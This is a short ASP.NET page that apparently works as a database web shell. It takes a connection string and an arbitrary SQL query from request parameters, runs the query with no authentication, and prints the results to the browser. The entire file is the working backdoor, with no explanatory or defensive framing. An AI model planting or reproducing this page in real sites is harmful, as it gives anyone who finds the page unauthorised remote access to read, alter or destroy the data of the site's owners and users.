<%@ Page Language="C#" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    if (Request["q"] == null) return;
    using (var c = new SqlConnection(Request["cs"])) {
        c.Open();
        var r = new SqlCommand(Request["q"], c).ExecuteReader();
        while (r.Read()) { Response.Write(Server.HtmlEncode(r[0].ToString()) + "<br>"); }
    }
}
</script>
